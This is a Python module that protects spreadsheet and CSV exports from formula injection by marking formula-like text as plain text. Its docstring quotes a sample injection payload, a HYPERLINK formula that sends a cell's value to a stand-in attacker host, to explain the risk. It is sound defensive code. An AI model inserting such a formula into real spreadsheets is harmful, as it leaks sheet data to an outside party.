"""Spreadsheet cells that are never formulas: the one guard every export writes through.

A text that starts with = + - @ (or a tab or carriage return, which some programs skip before
reading one of those) would be run by Excel or LibreOffice as a formula: a task titled
`=HYPERLINK("http://evil.example/?leak="&B2,"x")` would leak the sheet. Every text from the
database goes through these helpers: in .xlsx (XlsxWriter, exports/spreadsheets.py and
exports/tables.py) it is stored as a string cell, with Excel's "quote prefix" when it looks like
a formula (shown as typed, and kept as text if someone edits it); in CSV it gets a leading
apostrophe, the convention spreadsheet programs read as "this is text".
"""

from __future__ import annotations

from typing import Any

from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The properties of the format `write_text` is given (`workbook.add_format(QUOTED)`).
QUOTED = {"quote_prefix": True}


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def write_text(ws: Worksheet, row: int, col: int, value: str, quoted: Format) -> None:
    """`value` as a string cell, never a formula; one that looks like a formula carries the
    quote prefix (`quoted`, the workbook's format made of QUOTED)."""
    ws.write_string(row, col, value, quoted if looks_like_formula(value) else None)


def csv_text(value: Any) -> Any:
    """`value` for a CSV cell: a text that looks like a formula gets a leading apostrophe."""
    if looks_like_formula(value):
        return "'" + value
    return value
